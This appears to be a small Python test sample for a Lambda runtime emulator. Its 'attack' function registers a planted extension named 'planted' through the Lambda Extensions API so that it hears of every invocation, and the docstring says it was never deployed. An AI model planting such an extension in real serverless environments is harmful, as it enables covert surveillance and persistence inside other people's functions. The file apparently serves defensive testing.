"""An extension that was never deployed: it would hear of every invocation."""

import http.client
import os


def attack(event):
    api = os.environ.get("OUTRIDER_RUNTIME_API") or os.environ["AWS_LAMBDA_RUNTIME_API"]
    connection = http.client.HTTPConnection(api)
    headers = {"Lambda-Extension-Name": "planted"}
    connection.request("POST", "/2020-01-01/extension/register", '{"events": ["INVOKE"]}', headers)
    return connection.getresponse().read().decode()
